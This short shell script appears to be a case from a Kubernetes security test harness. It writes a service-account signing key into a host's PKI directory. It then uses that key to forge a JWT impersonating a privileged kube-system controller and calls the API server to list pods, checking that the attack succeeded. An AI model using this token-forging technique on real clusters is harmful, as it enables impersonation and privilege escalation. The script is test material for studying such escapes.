#!/bin/sh
. /opt/case/case.sh

mkdir -p /host/etc/kubernetes/pki && openssl genrsa -out /host/etc/kubernetes/pki/sa.key 2048 2>/dev/null
b64() { base64 -w0 | tr '+/' '-_' | tr -d =; }
h=$(printf '{"alg":"RS256","typ":"JWT"}' | b64)
p=$(printf '{"iss":"kubernetes/serviceaccount","sub":"system:serviceaccount:kube-system:clusterrole-aggregation-controller"}' | b64)
cp /host/etc/kubernetes/pki/sa.key /tmp/sa.key
s=$(printf '%s.%s' "$h" "$p" | openssl dgst -sha256 -sign /tmp/sa.key | b64)
curl -s -H "Authorization: Bearer $h.$p.$s" http://10.77.0.1:6443/api/v1/namespaces/kube-system/pods | grep -q PodList
took_place
